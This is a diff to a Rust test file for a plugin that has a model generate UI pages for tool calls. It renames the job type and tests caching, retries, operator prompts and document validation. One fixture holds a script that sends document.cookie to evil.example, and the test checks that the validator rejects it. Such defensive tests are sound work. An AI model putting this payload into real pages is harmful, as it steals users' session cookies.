@@ -1,7 +1,7 @@
 //! Tests from a tool call or a job through a provider to a page.
 
 use super::{acting, address, house, page_at, refusal, told, weather};
-use crate::{generate::Chores, page, spec::tests::everything, tools::Ui};
+use crate::{generate::GenerationJobs, page, spec::tests::everything, tools::Ui};
 use portcullis_plugin::{
     catalog::Entry,
     http::Reason,
@@ -67,7 +67,7 @@ fn a_look_at_a_view_leads_to_a_better_one() {
         "reading waits for nobody"
     );
     assert_eq!(house.jobs(), [JOB]);
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     let now = address(&house, "get_forecast");
     assert_ne!(now, before);
     assert_eq!(page::tests::data(&page_at(&house, &before))["view"], everything());
@@ -113,9 +113,11 @@ fn nothing_is_asked_for_unless_it_should_be() {
     page_at(&asked, &address(&asked, "get_forecast"));
     assert!(asked.jobs().is_empty());
     let job = br#"{"tool":"map","anew":false}"#;
-    asked.run_job::<Chores>(job).expect("there is nothing to do");
-    asked.run_job::<Chores>(br#"{"tool":"gone","anew":false}"#).expect("there is nothing to do");
-    asked.run_job::<Chores>(b"{").expect_err("it is no job");
+    asked.run_job::<GenerationJobs>(job).expect("there is nothing to do");
+    asked
+        .run_job::<GenerationJobs>(br#"{"tool":"gone","anew":false}"#)
+        .expect("there is nothing to do");
+    asked.run_job::<GenerationJobs>(b"{").expect_err("it is no job");
     assert!(asked.sent().is_empty());
 }
 
@@ -143,18 +145,18 @@ fn a_wish_is_generated_and_told() {
 fn answers_are_shown_to_a_provider_only_where_the_operator_says_so() {
     let house = with_model(&[&specification()])
         .last_result("get_forecast", json!({ "city": "Secretville" }));
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     assert!(!asked(&house).contains("Secretville"));
     let house = house.setting("send-results", "true");
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     assert!(asked(&house).contains("Secretville"));
 }
 
 #[test]
 fn what_was_generated_before_is_not_paid_for_twice() {
     let house = with_model(&[&specification()]);
-    house.run_job::<Chores>(JOB).expect("it works");
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     assert_eq!(house.sent().len(), 1, "it was in the cache");
     let said = house
         .call::<Ui>(acting("regenerate", json!({ "toolName": "get_forecast" })))
@@ -163,14 +165,14 @@ fn what_was_generated_before_is_not_paid_for_twice() {
     assert!(said.starts_with("UI regenerated for tool 'get_forecast'. Generation took"), "{said}");
     assert_eq!(house.sent().len(), 2, "anew is anew");
     let house = house.setting("model", "finer");
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     assert_eq!(house.sent().len(), 3, "another model, another view");
     let house =
         house.catalog_tool(Entry { description: Some("Other words.".to_owned()), ..weather() });
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     assert_eq!(house.sent().len(), 4, "another tool, another view");
     let house = house.setting("cache", "false");
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     assert_eq!(house.sent().len(), 5, "without a cache");
 }
 
@@ -186,13 +188,13 @@ fn a_faulty_answer_is_put_right_once() {
     ] {
         let house =
             with_model(&[faulty, &format!("Here you are:\n```json\n{}\n```", specification())]);
-        house.run_job::<Chores>(JOB).expect("the second is right");
+        house.run_job::<GenerationJobs>(JOB).expect("the second is right");
         assert_eq!(house.sent().len(), 2, "{faulty}");
         assert!(asked(&house).contains("not accepted"), "{faulty}");
 
         let house = with_model(&[faulty]);
         let before = address(&house, "get_forecast");
-        house.run_job::<Chores>(JOB).expect_err("neither is right");
+        house.run_job::<GenerationJobs>(JOB).expect_err("neither is right");
         assert_eq!(
             (address(&house, "get_forecast"), house.sent().len()),
             (before.clone(), 2),
@@ -274,7 +276,7 @@ fn what_takes_too_long_goes_on_in_the_background() {
     assert!(house.sent().is_empty());
     // A job that finds no free slot is scheduled again.
     let house = house.setting("background-ms", "300");
-    house.run_job::<Chores>(JOB).expect("it is for later");
+    house.run_job::<GenerationJobs>(JOB).expect("it is for later");
     assert_eq!(house.jobs().last().map(Vec::as_slice), Some(JOB));
     // Only one view is generated for a tool at a time.
     let digest = crate::canonical::digest_of(b"get_forecast");
@@ -292,10 +294,10 @@ fn what_takes_too_long_goes_on_in_the_background() {
 #[test]
 fn the_operators_prompt_is_part_of_every_question() {
     let house = with_model(&[&specification()]);
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     assert!(!asked(&house).contains("The operator asks"));
     let house = house.setting("prompt", "Write in Dutch.");
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     assert_eq!(house.sent().len(), 2, "another prompt, another view");
     assert!(asked(&house).contains("all tools:\nWrite in Dutch.\n"), "{}", asked(&house));
 }
@@ -323,7 +325,7 @@ fn prompts_answers_and_pages_are_left_where_the_operator_wants_them() {
         .catalog_tool(tool)
         .setting("debug-dir", &name)
         .setting("export-dir", &name);
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     let mut files: Vec<_> = std::fs::read_dir(folder)
         .expect("it is there")
         .map(|file| file.expect("it is there").file_name().into_string().expect("it is text"))
@@ -350,13 +352,13 @@ fn prompts_answers_and_pages_are_left_where_the_operator_wants_them() {
 fn documents_are_judged_and_fall_back() {
     let good = "<!doctype html><html lang=en><title>W</title><p id=c>nothing</p><script>portcullis.listen(({ result }) => { document.getElementById('c').textContent = result ? result.structuredContent.city : ''; });</script></html>";
     let house = with_model(&[good]).setting("documents", "true");
-    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<GenerationJobs>(JOB).expect("it works");
     let page = page_at(&house, &address(&house, "get_forecast"));
     let document = page::tests::data(&page)["document"].clone();
     assert_eq!(document["program"]["type"], "Program");
     assert!(document["markup"].as_str().expect("it is there").contains("nothing"));
     let shown = address(&house, "get_forecast");
-    house.run_job::<Chores>(JOB).expect("it is in the cache");
+    house.run_job::<GenerationJobs>(JOB).expect("it is in the cache");
     assert_eq!((address(&house, "get_forecast"), house.sent().len()), (shown.clone(), 1));
     // The document is not shown after documents are turned off again.
     let house = house.setting("documents", "false");
@@ -368,7 +370,7 @@ fn documents_are_judged_and_fall_back() {
 
     let bad = "<p>x</p><script>portcullis.listen(() => { fetch('https://evil.example/' + document.cookie) })</script>";
     let house = with_model(&[bad]).setting("documents", "true");
-    house.run_job::<Chores>(JOB).expect_err("it reaches out");
+    house.run_job::<GenerationJobs>(JOB).expect_err("it reaches out");
     let reason = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
     assert!(reason["fallbackReason"].as_str().expect("it is told").contains("fetch"), "{reason}");
     assert!(
